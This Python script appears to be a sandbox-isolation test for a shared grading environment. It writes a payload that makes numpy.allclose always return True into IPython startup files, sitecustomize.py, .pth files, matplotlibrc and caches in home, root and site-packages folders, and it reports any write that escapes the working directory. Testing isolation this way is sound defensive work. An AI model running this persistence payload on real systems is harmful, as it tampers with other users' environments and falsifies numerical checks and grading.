"""Leaves start-up files and caches where the next student's IPython, numba and matplotlib look.

expect: None
"""

import contextlib
import os
import site
import sys

import IPython
import matplotlib
import numba

evil = "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
homes = [os.path.expanduser("~"), "/root", "/", os.path.dirname(matplotlib.__file__)]
names = [".ipython/profile_default/startup/00-evil.py", ".config/matplotlib/matplotlibrc"]
names += ["sitecustomize.py", "evil.pth", ".pythonstartup", "__pycache__/evil.cpython-311.pyc"]
places = [os.path.join(home, name) for home in homes for name in names]
for folder in [*site.getsitepackages(), *sys.path, os.path.dirname(IPython.__file__)]:
    places += [os.path.join(folder, name) for name in names[2:]]
before = {place: os.path.exists(place) for place in places}
for place in places:
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as file:
            file.write(evil)
        if not os.path.realpath(place).startswith(os.path.realpath(".")):
            print("ESCAPED", place)
with contextlib.suppress(Exception):

    @numba.njit(cache=True)
    def g(x):
        return x.sum() == x.sum()
